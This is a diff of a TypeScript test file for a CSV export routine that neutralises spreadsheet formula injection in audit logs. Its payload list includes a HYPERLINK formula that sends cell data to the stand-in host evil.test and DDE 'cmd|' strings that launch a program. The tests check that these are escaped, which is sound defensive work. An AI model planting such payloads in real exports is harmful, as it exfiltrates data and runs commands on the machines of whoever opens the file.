@@ -6,7 +6,7 @@ import { neutraliseCell } from "./csv-safe";
 // Payloads from the OWASP CSV injection page and the usual spreadsheet tricks.
 const PAYLOADS = [
   "=1+1",
-  "=HYPERLINK(\"http://evil.test?x=\"&A1, \"click\")",
+  '=HYPERLINK("http://evil.test?x="&A1, "click")',
   "+SUM(1,2)",
   "-2+3+cmd|' /C calc'!A0",
   "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -37,7 +37,7 @@ describe("audit CSV lines", () => {
       seq: 7n,
       occurredAt: new Date("2026-12-01T10:00:00Z"),
       actorId: null,
-      actorLabel: "=HYPERLINK(\"http://evil.test\")",
+      actorLabel: '=HYPERLINK("http://evil.test")',
       action: "model.update",
       targetType: "model",
       targetId: "@evil",
@@ -48,10 +48,23 @@ describe("audit CSV lines", () => {
       hash: "f".repeat(64),
     };
     const [header, row] = parse(auditCsvHeader() + auditCsvLine(event), { cast: false }) as string[][];
-    expect(header).toEqual(["seq", "occurred_at", "actor_id", "actor_label", "action", "target_type", "target_id", "before", "after", "reason", "prev_hash", "hash"]);
+    expect(header).toEqual([
+      "seq",
+      "occurred_at",
+      "actor_id",
+      "actor_label",
+      "action",
+      "target_type",
+      "target_id",
+      "before",
+      "after",
+      "reason",
+      "prev_hash",
+      "hash",
+    ]);
     const cell = (name: string) => row[header.indexOf(name)];
     expect(cell("seq")).toBe("7");
-    expect(cell("actor_label")).toBe("'=HYPERLINK(\"http://evil.test\")");
+    expect(cell("actor_label")).toBe('\'=HYPERLINK("http://evil.test")');
     expect(cell("target_id")).toBe("'@evil");
     expect(cell("reason")).toBe("'+ because");
     // JSON cells start with "{", so the text inside cannot start a formula.
